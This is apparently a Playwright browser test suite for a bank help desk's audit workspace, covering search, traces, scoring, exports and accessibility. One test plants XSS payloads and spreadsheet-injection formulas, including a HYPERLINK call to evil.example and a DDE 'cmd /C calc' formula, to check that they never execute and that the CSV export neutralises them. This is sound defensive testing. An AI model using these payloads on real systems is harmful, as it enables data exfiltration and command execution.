"""The compliance auditor's workspace in real Chromium, against a real server and the real agent.

(a) an auditor finds a conversation that was handed to staff, reads its step trace and the verified chain,
    draws a sample holding it, scores it, records a finding on a turn, and exports (the downloads' contents
    are checked), then reads the volume and cost charts;
(b) attack payloads sent by the customer, planted as merchants' names (they reach the step trace through tool
    results) and written by staff never execute on the audit page, and the CSV export neutralises formulas;
(c) keyboard use of the view tabs, and axe-core finds no serious or critical violation in any view.
"""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
from playwright.async_api import Page, expect
from sqlalchemy import select

from app.db import create_engine, create_sessionmaker
from app.models import Account, Transaction
from app.models.enums import TransactionStatus
from tests.browser.conftest import Guard, NewContext, Server

PAYLOADS_DIR = Path("/work/shared/data/attacks/payloads")
if not PAYLOADS_DIR.exists():  # a checkout beside ../shared
    PAYLOADS_DIR = Path(__file__).resolve().parents[3] / "shared" / "data" / "attacks" / "payloads"

Shoot = Callable[..., Awaitable[Path]]
Axe = Callable[[Page], Awaitable[list[dict[str, Any]]]]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def payloads() -> list[str]:
    found: list[str] = []
    for path in sorted(PAYLOADS_DIR.glob("*.json")):
        found.extend(json.loads(path.read_text())["payloads"])
    assert len(found) > 20, PAYLOADS_DIR
    return found


def handed_off_conversation(
    server: Server, customer_id: str, staff_id: str, first: str, replies: list[str]
) -> str:
    """A conversation through the API: a question for the assistant, a handoff, a claim and staff replies."""
    with server.client(customer_id) as client:
        cid = str(client.post("/v1/conversations").json()["id"])
        r = client.post(f"/v1/conversations/{cid}/messages", json={"content": first})
        assert r.status_code == 201, r.text
        r = client.post(
            f"/v1/conversations/{cid}/messages", json={"content": "I'd like to speak to a person please"}
        )
        assert r.json()["kind"] == "handoff", r.text
    with server.client(staff_id) as staff:
        handoff = next(h for h in staff.get("/v1/handoffs").json()["items"] if h["conversation_id"] == cid)
        assert staff.post(f"/v1/handoffs/{handoff['id']}/claim").status_code == 200
        for text in replies:
            r = staff.post(f"/v1/handoffs/{handoff['id']}/messages", json={"content": text})
            assert r.status_code == 201, r.text
    return cid


async def auditor_signs_in(page: Page, server: Server) -> dict[str, Any]:
    auditor = server.staff("auditor")
    await page.goto(server.url + "/audit")
    await expect(page.locator(f"#bd-demo-person option[value='{auditor['id']}']")).to_be_attached()
    await page.select_option("#bd-demo-person", auditor["id"])
    await page.click("#bd-demo-form button[type=submit]")
    await expect(page.locator("#bd-who-name")).to_contain_text(auditor["full_name"])
    await expect(page.locator("#bd-chain")).to_contain_text("Audit log verified", timeout=30_000)
    # Signing in ends with the first search and focus on the filters' heading; a test that moves focus before
    # then (a loaded machine makes the search late) would have it taken back.
    await expect(page.locator("#bd-filters-title")).to_be_focused(timeout=30_000)
    return auditor


async def search_for(page: Page, customer_name: str, *, handed_off: bool = True) -> None:
    await page.fill("#f-customer", customer_name)
    await page.select_option("#f-handed", "true" if handed_off else "")
    await page.get_by_role("button", name="Search", exact=True).click()
    await expect(page.locator("#bd-results-count")).to_have_text("(1–1 of 1)")


async def open_result(page: Page, customer_name: str) -> None:
    await page.locator("button.bd-audit__open", has_text=customer_name).click()
    await expect(page.locator("#bd-transcript-title")).to_contain_text(customer_name)
    await expect(page.locator("#bd-transcript-title")).to_be_focused()
    await expect(page.locator("#bd-transcript-body .bd-audit__badge")).to_contain_text("Chain verified")


async def downloaded(page: Page, button: str) -> str:
    async with page.expect_download() as info:
        await page.get_by_role("button", name=button).click()
    download = await info.value
    path = await download.path()
    return Path(path).read_text(encoding="utf-8")


async def no_violations(page: Page, axe: Axe, found: Guard, where: str) -> None:
    """axe finds no serious or critical violation. axe's own probes set inline styles, which the page's policy
    refuses and logs: those console errors, logged while axe runs, are not the page's and are dropped."""
    before = len(found.console_errors)
    violations = await axe(page)
    await page.wait_for_timeout(300)  # console messages from axe's probes arrive a moment later
    during = found.console_errors[before:]
    del found.console_errors[before:]
    found.console_errors.extend(e for e in during if not e.startswith("Applying inline style violates"))
    assert violations == [], (where, violations)


async def test_auditor_finds_traces_samples_scores_and_exports(
    live_server: Server,
    new_context: NewContext,
    guard: Callable[[Page], Guard],
    shoot: Shoot,
    axe: Axe,
) -> None:
    customer = live_server.customer(1)
    agent = live_server.staff("agent")
    reply = "Hello, this is the Northbank team. Your new card was posted yesterday."
    cid = handed_off_conversation(live_server, customer["id"], agent["id"], "where is my new card?", [reply])

    page = await (await new_context()).new_page()
    found = guard(page)
    await page.goto(live_server.url + "/audit")
    await expect(page.locator("#bd-signin")).to_be_visible()
    await shoot(page, "audit-signin")
    await no_violations(page, axe, found, "sign-in")
    await auditor_signs_in(page, live_server)

    # Find it: by name and "handed off", then open it.
    await search_for(page, customer["full_name"])
    await open_result(page, customer["full_name"])
    turn1 = page.locator("#turn-1")
    await expect(turn1.locator(".bd-audit__msg--customer")).to_contain_text("where is my new card?")
    await expect(turn1.locator(".bd-audit__headline")).to_contain_text("card arrival")
    await turn1.locator("summary", has_text="Step trace").click()
    trace = turn1.locator(".bd-audit__trace")
    for heading in ("Triage", "Route", "Procedure", "Tool calls", "Model calls", "Compliance", "Every step"):
        await expect(trace.get_by_role("heading", name=heading, exact=True)).to_be_visible()
    await expect(trace.locator("table").last).to_contain_text("local")  # the model call's provider
    await expect(trace).to_contain_text("ai disclosure")
    turn2 = page.locator("#turn-2")
    await expect(turn2).to_contain_text("Handed to a person")
    await expect(turn2).to_contain_text("Claimed by staff")
    await expect(turn2.locator(".bd-audit__msg--staff")).to_contain_text(reply)
    await expect(turn2.locator(".bd-audit__msg--staff")).to_contain_text(agent["full_name"])
    await shoot(page, "audit-transcript")
    await no_violations(page, axe, found, "transcript")

    # Export the filtered set: only this conversation, with the staff reply and the customer's words.
    jsonl = await downloaded(page, "Export JSON lines")
    lines = [json.loads(line) for line in jsonl.splitlines()]
    assert [line["conversation"]["id"] for line in lines] == [cid]
    assert lines[0]["turns"][0]["triage"][0]["intent"] == "card_arrival"
    rows = list(csv.DictReader(io.StringIO(await downloaded(page, "Export CSV"), newline="")))
    assert {row["conversation_id"] for row in rows} == {cid}
    assert [row["content"] for row in rows if row["role"] == "customer"][0] == "where is my new card?"
    assert reply in [row["content"] for row in rows if row["role"] == "staff"]

    # Sample the filtered set (this one conversation), score it and record a finding on turn 1.
    await page.get_by_role("tab", name="Quality review").click()
    await page.check("input[name=method][value=random]")
    await page.fill("#s-size", "5")
    await page.fill("#s-seed", "20261202")
    await page.get_by_role("button", name="Draw sample").click()
    await expect(page.locator("#bd-sample-open-title")).to_have_text("Random sample of 1")
    await expect(page.locator("#bd-sample-meta")).to_contain_text("seed 20261202")
    await shoot(page, "audit-sample")
    await no_violations(page, axe, found, "review")
    await page.get_by_role("button", name=f"Review {customer['full_name']}").click()
    await expect(page.locator("#bd-tab-conversations")).to_have_attribute("aria-selected", "true")
    await expect(page.locator("#bd-transcript-title")).to_contain_text(customer["full_name"])
    score = page.locator("form.bd-audit__score")
    for group, mark in (
        ("Accurate", "Met"),
        ("Compliant", "Met"),
        ("Fair treatment", "Met"),
        ("Vulnerable customer handled", "Not applicable"),
    ):
        await score.get_by_role("group", name=group).get_by_label(mark, exact=True).check()
    await score.get_by_label("Comment").fill("Handed over promptly.")
    await score.get_by_role("button", name="Save score").click()
    await expect(page.locator("#bd-announce")).to_have_text("Score saved.")
    await expect(page.locator(".bd-audit__review table").first).to_contain_text("Handed over promptly.")

    note = "The first reply did not say when the card would arrive."
    await page.get_by_role("button", name="Record a finding on turn 1").click()
    finding = page.get_by_role("form", name="Finding on turn 1")
    await finding.get_by_label("About").select_option(label="Assistant reply")
    await finding.get_by_label("Criterion").select_option("accurate")
    await finding.get_by_label("Severity").select_option("medium")
    await finding.get_by_label("Note").fill(note)
    await finding.get_by_role("button", name="Save finding").click()
    await expect(page.locator("#bd-announce")).to_have_text("Finding recorded on turn 1.")
    findings = page.locator(".bd-audit__review table", has_text="Severity")
    await expect(findings).to_contain_text(note)
    await expect(findings).to_contain_text("Turn 1")
    await shoot(page, "audit-scored")

    # The review view shows the finding over time and exports scores and findings.
    await page.get_by_role("tab", name="Quality review").click()
    await expect(page.locator("#bd-findings")).to_contain_text(note)
    await expect(page.locator("#bd-sample-items")).to_contain_text("scored")
    chart = page.locator("#bd-findings-chart img")
    await expect(chart).to_have_attribute("src", re.compile(r"^data:image/svg\+xml;base64,"))
    review_rows = list(
        csv.DictReader(io.StringIO(await downloaded(page, "Export scores and findings (CSV)"), newline=""))
    )
    assert [r["record"] for r in review_rows] == ["score", "finding"]
    assert review_rows[1]["note"] == note
    assert review_rows[1]["turn"] == "1"
    await shoot(page, "audit-review")

    # Volume and cost.
    await page.get_by_role("tab", name="Volume and cost").click()
    await expect(page.locator("#bd-kpis")).to_contain_text("Handoff rate")
    for figure in ("#bd-chart-volume", "#bd-chart-variant", "#bd-chart-tier"):
        image = page.locator(f"{figure} img")
        await expect(image).to_be_visible()
        assert await image.evaluate("img => img.complete && img.naturalWidth > 0")
    await shoot(page, "audit-metrics")
    await no_violations(page, axe, found, "metrics")
    found.assert_clean()


async def plant_merchants(server: Server, customer_id: str, names: list[str]) -> None:
    """Today's card payments whose merchant names are attack payloads (as if the card network sent them)."""
    engine = create_engine(server.live.env["BANKDESK_DATABASE_URL"])
    try:
        async with create_sessionmaker(engine)() as session:
            account = await session.scalar(
                select(Account).where(
                    Account.customer_id == uuid.UUID(customer_id), Account.kind == "current"
                )
            )
            assert account is not None
            for i, name in enumerate(names):
                session.add(
                    Transaction(
                        account_id=account.id,
                        amount_minor=-(1000 + i),
                        currency=account.currency,
                        merchant=name[:120],
                        description=name[:500],
                        category="shopping",
                        status=TransactionStatus.posted,
                        booked_at=datetime.now(UTC) - timedelta(minutes=5 + i),
                    )
                )
            await session.commit()
    finally:
        await engine.dispose()


async def test_attack_payloads_never_execute_on_the_audit_page(
    live_server: Server,
    new_context: NewContext,
    guard: Callable[[Page], Guard],
    shoot: Shoot,
    axe: Axe,
) -> None:
    attacks = payloads()
    customer = live_server.customer(3)
    agent = live_server.staff("agent")
    html_attacks = [p for p in attacks if "<" in p]
    await plant_merchants(live_server, customer["id"], html_attacks[:8])
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"]
    cid = handed_off_conversation(
        live_server, customer["id"], agent["id"], "show me my recent transactions", [*attacks, *formulas]
    )
    with live_server.client(
        customer["id"]
    ) as client:  # while a person has it, the customer's words are stored
        for text in [*attacks, formulas[0]]:
            r = client.post(f"/v1/conversations/{cid}/messages", json={"content": text})
            assert r.status_code == 201, r.text

    page = await (await new_context()).new_page()
    found = guard(page)
    await auditor_signs_in(page, live_server)
    await search_for(page, customer["full_name"])
    await open_result(page, customer["full_name"])
    for summary in await page.locator(".bd-audit__trace summary").all():
        await summary.click()
    await page.wait_for_timeout(500)  # anything that were to run on insertion has had its chance

    body = page.locator("#bd-transcript-body")
    # Typed by the customer and written by staff: on screen as the text that was written.
    for text in ["<script>alert(1)</script>", formulas[0]]:
        await expect(body.locator(".bd-audit__msg--customer", has_text=text).first).to_be_attached()
        await expect(body.locator(".bd-audit__msg--staff", has_text=text).first).to_be_attached()
    # Planted as merchants: shown inside the tool result, as text.
    tool_results = body.locator("#turn-1 pre.bd-audit__json")
    await expect(tool_results.filter(has_text=html_attacks[0][:40]).first).to_be_attached()
    # ...and nothing became markup: no element the page did not make itself.
    made = await page.evaluate(
        """() => ({
            scripts: [...document.scripts].filter(s => !s.src).length,
            handlers: [...document.querySelectorAll('*')].filter(
                n => [...n.attributes].some(a => a.name.startsWith('on'))).length,
            frames: document.querySelectorAll('iframe, object, embed, svg, math, form[action]').length,
            images: [...document.images].filter(i => !i.src.startsWith('data:image/svg+xml')).length,
            links: [...document.querySelectorAll('a[href]')]
                .filter(a => !a.getAttribute('href').startsWith('#')).length,
        })"""
    )
    assert made == {"scripts": 0, "handlers": 0, "frames": 0, "images": 0, "links": 0}, made
    await body.locator("#turn-1 .bd-audit__tools").scroll_into_view_if_needed()
    await shoot(page, "audit-attacks-tool-results", full_page=False)
    await body.locator(
        ".bd-audit__msg--staff", has_text="<script>alert(1)</script>"
    ).first.scroll_into_view_if_needed()
    await shoot(page, "audit-attacks-messages", full_page=False)
    await no_violations(page, axe, found, "transcript with payloads")

    text = await downloaded(page, "Export CSV")
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    assert "'" + formulas[0] in text.replace('""', '"')
    found.assert_clean()


async def test_keyboard_moves_between_views(
    live_server: Server, new_context: NewContext, guard: Callable[[Page], Guard], axe: Axe
) -> None:
    page = await (await new_context()).new_page()
    found = guard(page)
    await auditor_signs_in(page, live_server)
    await page.locator("#bd-tab-conversations").focus()
    await page.keyboard.press("ArrowRight")
    await expect(page.locator("#bd-tab-review")).to_be_focused()
    await expect(page.locator("#bd-view-review")).to_be_visible()
    await expect(page.locator("#bd-view-conversations")).to_be_hidden()
    await page.keyboard.press("End")
    await expect(page.locator("#bd-tab-metrics")).to_have_attribute("aria-selected", "true")
    await page.keyboard.press("Home")
    await expect(page.locator("#bd-tab-conversations")).to_be_focused()
    # Tab from the tab list goes into the panel's first control.
    await page.keyboard.press("Tab")
    await expect(page.locator("#f-customer")).to_be_focused()
    await page.keyboard.type("nobody at all")
    await page.keyboard.press("Enter")
    await expect(page.locator("#bd-results")).to_contain_text("No conversation matches")
    await no_violations(page, axe, found, "empty results")
    with httpx.Client(base_url=live_server.url) as plain:
        assert plain.get("/v1/audit/conversations").status_code == 401
    found.assert_clean()
